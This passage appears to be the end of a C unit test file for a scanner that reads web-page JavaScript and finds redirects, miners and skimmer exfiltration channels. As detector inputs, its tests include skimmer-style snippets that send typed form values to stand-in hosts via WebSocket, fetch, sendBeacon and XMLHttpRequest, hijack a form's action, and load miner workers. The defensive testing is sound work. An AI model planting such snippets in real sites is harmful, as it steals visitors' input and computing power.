			fail_msg("miner not seen: %s", yes[i]);
	assert_false(rd("var mining = { coins: 3 }; console.log('hive', mining);")->flags &
		     WATCH_JSF_MINER);
}

/* ------------------------------------------------------------ hostile input */

static char *repeat(const char *head, const char *unit, size_t times, const char *tail)
{
	size_t hl = strlen(head), ul = strlen(unit), tl = strlen(tail);
	char *s = malloc(hl + ul * times + tl + 1);
	assert_non_null(s);
	memcpy(s, head, hl);
	for (size_t i = 0; i < times; i++)
		memcpy(s + hl + i * ul, unit, ul);
	memcpy(s + hl + ul * times, tail, tl + 1);
	return s;
}

static void hostile(void **state)
{
	(void)state;
	/* unterminated strings, comments, templates, regexes */
	const char *const bad[] = {
		"var s=\"abc; location=\"http://x/",
		"location='http://evil.example/x'; /* never closed",
		"location=`https://${a",
		"location=/abc",
		"document.write('<iframe src=\"http://evil.example/",
		"\\u00",
		"'\\x",
		"String.fromCharCode(0xd800, 0xdc00, 0xdbff)",
		"<!-- location='/a'\n--> x\nlocation='/b'",
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		const struct watch_js_read *r = rd(bad[i]);
		assert_true(r->ndest <= WATCH_JS_DEST_MAX);
	}
	/* an HTML comment opener hides its line only */
	only(rd(bad[8]), WATCH_REF_REDIRECT, "/b");

	/* 100,000 nested parentheses, brackets, templates */
	char *s = repeat("location=", "(", 100000, "'/x'");
	assert_true(rd(s)->flags & WATCH_JSF_DEEP);
	free(s);
	s = repeat("", "x=[", 50000, "");
	assert_true(rd(s)->flags & WATCH_JSF_DEEP);
	free(s);
	s = repeat("", "`${", 50000, "");
	assert_true(rd(s)->flags & WATCH_JSF_DEEP);
	free(s);
	s = repeat("", "a(", 60000, "");
	rd(s);
	free(s);
	s = repeat("", "(function(a){", 20000, "");
	rd(s);
	free(s);

	/* a 1 MB script: read to the limit, what is before it found */
	s = repeat("document.write('<img src=\"/p.gif\">');", "var a='x'+'y'; ", 70000, "");
	const struct watch_js_read *r = rd(s);
	assert_true(r->flags & WATCH_JSF_CUT);
	only(r, WATCH_REF_IMG, "/p.gif");
	free(s);

	/* a value past the decoded-size limit is cut, not overrun */
	s = repeat("location='http://evil.example/'", "+'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'", 2000, ";");
	r = rd(s);
	assert_int_equal(r->ndest, 1);
	assert_true(strlen(r->dest[0].url) < WATCH_JS_URL_MAX);
	assert_memory_equal(r->dest[0].url, "http://evil.example/aaaa", 24);
	free(s);

	/* more destinations than kept */
	char buf[200];
	s = calloc(1, 100 * sizeof(buf));
	assert_non_null(s);
	for (int i = 0; i < 100; i++) {
		snprintf(buf, sizeof(buf), "document.write(\"<script src='https://h%d.example/x.js'>"
			 "</script>\");", i);
		strcat(s, buf);
	}
	r = rd(s);
	assert_int_equal(r->ndest, WATCH_JS_DEST_MAX);
	assert_true(r->flags & WATCH_JSF_FULL);
	free(s);

	/* binary junk, every byte value; deterministic */
	size_t n = 300000;
	unsigned char *j = malloc(n);
	assert_non_null(j);
	uint32_t x = 12345;
	for (size_t i = 0; i < n; i++) {
		x = x * 1103515245u + 12345u;
		j[i] = (unsigned char)(x >> 16);
	}
	static struct watch_js_read a, b;
	watch_js_read((const char *)j, n, &a);
	watch_js_read((const char *)j, n, &b);
	assert_memory_equal(&a, &b, sizeof(a));
	for (size_t i = 0; i < a.ndest; i++)
		assert_true(strlen(a.dest[i].url) < WATCH_JS_URL_MAX);
	/* the same bytes cut anywhere never read past the length */
	for (size_t cut = 0; cut < 64; cut++)
		watch_js_read((const char *)j + cut * 13, cut * 7, &a);
	free(j);
	watch_js_read(NULL, 0, &a);
	assert_int_equal(a.ndest, 0);
}

/* Where skimmers send what visitors type, besides an image: fetch,
** WebSocket, EventSource, sendBeacon, XMLHttpRequest; forms given an action
** through setAttribute on a queried node; miners in Web Workers. */
static void exfiltration_channels(void **state)
{
	(void)state;
	const struct watch_js_read *r =
		rd("var s=new WebSocket('wss://api-cdnstats.example/ws');"
		   "document.addEventListener('change',function(e){s.send(e.target.value)});");
	only(r, WATCH_REF_IMG, "wss://api-cdnstats.example/ws");
	r = rd("fetch('https://collect.example/c', {method:'POST', body: d});");
	only(r, WATCH_REF_IMG, "https://collect.example/c");
	r = rd("navigator.sendBeacon('https://b.example/p', JSON.stringify(f));");
	only(r, WATCH_REF_IMG, "https://b.example/p");
	r = rd("var x = new XMLHttpRequest(); x.open('POST', 'https://x.example/g.php'); x.send(d);");
	only(r, WATCH_REF_IMG, "https://x.example/g.php");
	r = rd("new EventSource('https://events.example/s');");
	only(r, WATCH_REF_IMG, "https://events.example/s");
	r = rd("setTimeout(function(){document.querySelector('form').setAttribute('action',"
	       "'https://submit-verify.example/r.php');},500);");
	only(r, WATCH_REF_FORM, "https://submit-verify.example/r.php");
	r = rd("var w = new Worker('https://cdn.wasm-lib.example/cn.js'); w.postMessage(1);");
	only(r, WATCH_REF_SCRIPT, "https://cdn.wasm-lib.example/cn.js");
	r = rd("importScripts('https://cdn.wasm-lib.example/cn.js');");
	only(r, WATCH_REF_SCRIPT, "https://cdn.wasm-lib.example/cn.js");
	/* a worker's code built as a string and handed over as a Blob */
	r = rd("var src=\"importScripts('https://cdn.wasm-lib.example/cn.js');\";"
	       "var w=new Worker(URL.createObjectURL(new Blob([src],{type:'text/javascript'})));");
	assert_true(only(r, WATCH_REF_SCRIPT, "https://cdn.wasm-lib.example/cn.js")->flags &
		    WATCH_RF_OBFUSCATED);
	/* window.open stays a pop-up, and an element's setAttribute an element's */
	r = rd("window.open('https://pop.example/', '_blank');");
	only(r, WATCH_REF_POPUP, "https://pop.example/");
	r = rd("var a = document.getElementById('q'); a.setAttribute('class', 'x');");
	assert_int_equal(r->ndest, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(google_tag_manager), cmocka_unit_test(google_tag),
		cmocka_unit_test(exfiltration_channels),
		cmocka_unit_test(matomo),	      cmocka_unit_test(yandex_facebook_hotjar),
		cmocka_unit_test(cloudflare),	      cmocka_unit_test(counters),
		cmocka_unit_test(chat_widgets),
		cmocka_unit_test(obfuscated_loaders), cmocka_unit_test(declared_functions),
		cmocka_unit_test(eval_and_timers),
		cmocka_unit_test(written_markup),     cmocka_unit_test(created_elements),
		cmocka_unit_test(conditional_redirects), cmocka_unit_test(popups),
		cmocka_unit_test(own_page_parts),     cmocka_unit_test(miners),
		cmocka_unit_test(hostile),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
